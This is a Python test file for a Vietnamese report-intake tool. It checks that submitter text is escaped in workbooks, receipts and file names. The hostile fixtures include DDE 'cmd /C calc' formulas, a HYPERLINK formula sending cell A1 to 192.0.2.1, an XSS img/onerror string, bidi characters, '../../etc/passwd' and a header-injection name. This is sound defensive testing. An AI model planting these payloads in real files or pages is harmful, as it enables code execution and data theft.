"""What a submitter typed is a text in everything that we write: no formula, no tag, no sign that misleads."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime
from html import unescape
from pathlib import Path

import openpyxl
import pytest
from lxml import etree
from openpyxl.worksheet.worksheet import Worksheet

from chuyenhoa.feedback import mark_workbook, marked_name, receipt_name, render_receipt
from chuyenhoa.model.figures import CellRef, Normalisation
from chuyenhoa.model.plan import Plan
from chuyenhoa.model.rules import Rule
from chuyenhoa.model.shown import finalize, show_plainly
from chuyenhoa.model.submissions import Finding, Receipt, Severity
from chuyenhoa.workbooks import write_workbook
from tests.unit.intake.drafts import save_with_libreoffice

LISTING = "Cần sửa"
HOSTILE = (
    "=cmd|' /C calc'!A0",
    "=1+1",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"bấm")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "'=1+1",
    "＝1+1",
    '=DDE("cmd";"/C calc";"x")',
    "<script>alert(1)</script>",
    "{=SUM(A1)}",
    "_x003D_1+1",
)
BIDI = "báo\u202ecáo\u2066\u200f\u200b\x1b[31m\x07.xlsx"


def finding(value: str, cell: str) -> Finding:
    message = f"Phường An Hòa: ô {cell} ghi “{value}”, không phải là số. Nhập bằng chữ số."
    return Finding("D33", Severity.ERROR, message, "Số liệu", (cell,), "30766", value=value)


@pytest.fixture
def marked(xlsxwriter_form: bytes, names: dict[str, str]) -> bytes:
    cells = [f"{column}{row}" for row in (6, 7, 8) for column in "BCDEF"]
    return mark_workbook(
        xlsxwriter_form, [finding(*pair) for pair in zip(HOSTILE, cells, strict=True)], names
    )


def test_every_text_of_the_listing_is_an_inline_text(marked: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(marked)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    listing = next(data for data in parts.values() if "CÁC Ô CẦN SỬA".encode() in data)
    cells = [cell for cell in etree.fromstring(listing).iter("{*}c") if len(cell)]
    assert len(cells) > len(HOSTILE) * 8
    assert {cell.get("t") for cell in cells} == {"inlineStr"}
    assert b"<f" not in listing
    styles = etree.fromstring(parts["xl/styles.xml"]).findall("{*}cellXfs/{*}xf")
    shown = [cell for cell in cells if ord(cell.get("r", "")[0]) <= ord("I")]
    assert all(styles[int(cell.get("s", ""))].get("quotePrefix") == "1" for cell in shown)


def values_of(sheet: Worksheet) -> list[str]:
    return [str(sheet.cell(row, 6).value) for row in range(6, 6 + len(HOSTILE))]


def plain(text: str) -> str:
    return " ".join(text.split())


def test_openpyxl_finds_no_formula_and_the_very_words(marked: bytes) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(marked))[LISTING]
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert [plain(value) for value in values_of(sheet)] == [plain(value) for value in HOSTILE]


@pytest.mark.integration
def test_libreoffice_finds_no_formula_and_keeps_the_words(marked: bytes, tmp_path: Path) -> None:
    saved = save_with_libreoffice(marked, tmp_path)
    sheet = openpyxl.load_workbook(io.BytesIO(saved))[LISTING]
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    assert sorted(plain(value) for value in values_of(sheet)) == sorted(plain(value) for value in HOSTILE)


def test_the_submitter_s_own_formulas_are_the_only_ones(
    marked: bytes, xlsxwriter_form: bytes, load: Callable[[bytes], openpyxl.Workbook]
) -> None:
    def formulas(book: openpyxl.Workbook) -> list[tuple[str, str, str]]:
        return [
            (sheet.title, cell.coordinate, str(cell.value))
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        ]

    assert formulas(load(marked)) == formulas(load(xlsxwriter_form)) != []


def test_signs_of_direction_reach_no_cell_and_no_comment(
    xlsxwriter_form: bytes, names: dict[str, str]
) -> None:
    book = openpyxl.load_workbook(io.BytesIO(mark_workbook(xlsxwriter_form, [finding(BIDI, "D6")], names)))
    comment = book["Số liệu"]["D6"].comment
    assert comment is not None
    assert "báocáo[31m.xlsx" in comment.text
    for text in (comment.text, *(str(cell.value) for row in book[LISTING].iter_rows() for cell in row)):
        assert show_plainly(text) == text


def test_the_receipt_escapes_every_word_of_the_submitter(receipt: Receipt, templates: Path) -> None:
    wild = "<img src=x onerror=alert(1)>\"'&"
    hostile = replace(
        receipt,
        file_name=wild + BIDI,
        submitter_name=wild,
        taken=(wild,),
        held=(wild,),
        supersedes=wild,
        findings=(
            finding(wild + BIDI, "D6"),
            replace(finding(wild, "D7"), severity=Severity.WARNING, justification=wild),
        ),
        normalisations=(Normalisation(CellRef(wild, "D6"), wild + BIDI, wild, wild),),
    )
    page = render_receipt(hostile, templates)
    assert "<img" not in page
    assert page.count("&lt;img") >= 8
    assert not set("\u202e\u2066\u200f\u200b\x1b\x07") & set(page)
    assert "báocáo" in unescape(page)


@pytest.mark.parametrize(
    "name", [BIDI, "../../etc/passwd", "a\\b\r\nBcc: x@example.org.xlsx", "=1+1.xlsx", "\x00.xlsx"]
)
def test_names_of_what_we_write_are_plain(name: str, receipt: Receipt) -> None:
    for made in (
        receipt_name(replace(receipt, file_name=name)),
        marked_name(replace(receipt, file_name=name)),
    ):
        assert made.isprintable()
        assert not set(made) & set('/\\:*?"<>|=')
        assert made.startswith(("PHIEU-TIEP-NHAN-", "CAN-SUA-"))


def test_the_blank_workbook_holds_no_formula_from_data(plan: Plan, rules: tuple[Rule, ...]) -> None:
    def hostile(text: str) -> str:
        return f'=HYPERLINK("http://192.0.2.1","{text}")'

    wild = replace(
        plan,
        localities=tuple(replace(entry, name=hostile(entry.name)) for entry in plan.localities),
        indicators=tuple(replace(entry, label=hostile(entry.label)) for entry in plan.indicators),
        sections=tuple(replace(entry, title=hostile(entry.title)) for entry in plan.sections),
        narrative_items=tuple(replace(entry, title=hostile(entry.title)) for entry in plan.narrative_items),
    )
    submitter, period = plan.submitter_by_code["899"], plan.period_by_id["2021-6t"]
    made = [
        openpyxl.load_workbook(
            io.BytesIO(write_workbook(data, period, submitter, rules, datetime(2021, 10, 1, tzinfo=UTC)))
        )
        for data in (plan, wild)
    ]
    formulas = [
        {
            (sheet.title, cell.coordinate)
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.data_type == "f"
        }
        for book in made
    ]
    assert formulas[0] == formulas[1] != set()
    assert any(
        str(cell.value).startswith("=HYPERLINK") for row in made[1]["Số liệu"].iter_rows() for cell in row
    )


@pytest.mark.parametrize("text", ["Báo cáo", "a\nb\tc", "", "=1+1", "Việt\u00a0Nam"])
def test_plain_words_are_shown_as_they_are(text: str) -> None:
    assert show_plainly(text) == text
    assert finalize(text) == text


def test_values_that_are_no_text_are_left_to_the_page() -> None:
    assert finalize(12) == 12
    assert finalize("a\u202eb") == "ab"
